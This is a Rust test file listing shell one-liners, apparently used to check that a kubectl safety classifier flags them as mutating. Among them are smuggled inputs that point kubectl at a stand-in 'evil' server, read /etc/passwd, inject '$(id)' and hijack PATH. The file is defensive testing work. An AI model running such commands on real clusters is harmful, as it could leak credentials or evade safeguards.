//! Scripts with substitutions, loops and functions that may change something.

use super::assert_effects;

#[test]
fn scripts_that_may_change_something_are_mutating() {
    assert_effects(SCRIPTS);
}

/// Lines of scripts, whose expected effect alone is given.
const SCRIPTS: &str = r#"
    M (kubectl get pods; kubectl delete pod x)
    M if kubectl get pods; then kubectl rollout undo deploy/web; fi
    M for p in $(kubectl get pods -o name); do kubectl delete $p; done
    M for x in $(kubectl logs web-0); do kubectl get pod $x; done
    M for x in $(kubectl get clusterroles -o jsonpath='{.items[*].metadata.name}'); do kubectl get pods $x; done
    M for f in *; do echo $f; done
    M kubectl logs web-0 | while read x; do kubectl get pods $x; done
    M kubectl get pods -o name | while read p; do eval $p; done
    M while read l; do kubectl get $l; done < cmds.txt
    M kubectl get pods -o name | xargs kubectl delete
    M kubectl logs web-0 | xargs kubectl get pods
    M kubectl logs web-0 | xargs -I{} sh -c 'echo {}'
    M kubectl get pods -o name | xargs -a /etc/passwd echo
    M kubectl get pods -o name | sed 's/pod/-/' | xargs kubectl get
    M kubectl get pods -o name | grep -o -- '-.*' | xargs kubectl get
    M kubectl get pods -o name | grep -A1 x | xargs kubectl get
    M kubectl get pods -o name 2>&1 | xargs kubectl get
    M kubectl get pods -o name | tr '\n' ' ' | while read p; do kubectl -n $p get delete pod y; done
    M kubectl get pods -o name | while read p; do :; done; kubectl -n $p get delete pod y
    M x=$(kubectl logs web-0); kubectl get pods $x
    M x=$(kubectl logs web-0); kubectl get pods "$x"
    M x=$(kubectl get ns -o name); kubectl -n $x get delete pod y
    M x=$(kubectl get ns -o name); kubectl get pods $x-s http://evil
    M x=$(kubectl get ns -o name); kubectl delete pod y -n $x --dry-run=server
    M o=$(kubectl get cm a -o jsonpath='{.data.o}'); kubectl get pods -o "$o"
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); kubectl get --raw "/api/v1/namespaces/$n/pods"
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); echo $((n + 1))
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); [[ $n -gt 1 ]] && kubectl get pods
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); [ "$n" "$n" ] && kubectl get pods
    M [ -v 'a[$(id)]' ] && kubectl get pods
    M x=prod; for i in 1 2; do x=$(kubectl logs web-0); break; x=prod; done; kubectl get pods $x
    M x=$(kubectl logs web-0); n=$((1 / 0)); x=prod⏎kubectl get pods $x
    M f() { x=$(kubectl logs web-0); }; x=prod; f; kubectl get pods $x
    M f() { kubectl delete pod "$1"; }; f web-0
    M kubectl get pods; helm template web ./chart -s evil.example
    M kubectl get pods; for s in -s evil.example; do echo $s; done
    M kubectl get pods | while read -s evil; do echo x; done
    M f() { f; }; f
    M f() { kubectl "$@"; }; f delete pod x
    M f() { kubectl get "$@"; }; f pods --as=admin
    M f() { kubectl get "$@"; }; f "$(kubectl logs web-0)"
    M kubectl get "$@"
    M n=$(kubectl get foos.example.com x -o json | jq .spec.replicas); echo $((n + 1))
    M n=$(helm list -o json | jq '.[0].app_version'); echo $((n + 1))
    M kubectl() { rm x; }; kubectl get pods
    M diff <(kubectl get pods) <(kubectl delete pod x)
    M diff /etc/passwd <(kubectl get pods)
    M kubectl get pods > >(tee x)
    M cat <<EOF | sh⏎kubectl delete pod x⏎EOF
    M cat <<EOF⏎$(kubectl delete pod x)⏎EOF
    M kubectl get pods <<EOF⏎--server=http://evil⏎EOF
    M bash <<< "kubectl delete pod x"
    M for p in a b; do kubectl get pod $p; done > out.txt
    M p=$(kubectl get pods -o name | cut -d/ -f2); sh -c "kubectl get pod $p"
    M kubectl get pods -A --no-headers | awk '{print $1,$2}' | xargs -I{} sh -c 'kubectl -n {} get pods'
    M kubectl get pods -o name | xargs -0 -I{} sh -c 'kubectl get {}'
    M kubectl get foo.example.com -o jsonpath='{.items[*].spec.nodeName}' | xargs kubectl get node
    M n=$(kubectl get foos.example.com x -o jsonpath='{.spec.replicas}'); echo $((n + 1))
    M kubectl get pods.example.com --no-headers | xargs -n1 kubectl get
    M kubectl get pods -o json | jq -r '.items[] | select(.a), ({metadata:{name:.b}}) | .metadata.name' | xargs kubectl get
    M seq -s ' --server=http://evil ' 3 | xargs kubectl get pods
    M kubectl get pods $(date +%Y%n-s)
    M env KUBECONFIG=/tmp/k kubectl get pods
    M env -S 'kubectl delete pod x'
    M watch 'kubectl get pods; rm x'
    M IFS=/; kubectl get pods
    M PATH=/tmp; kubectl get pods
    M x=$HOME; echo $x
    M echo ${x@P}
    M printf -v PATH /tmp
"#;
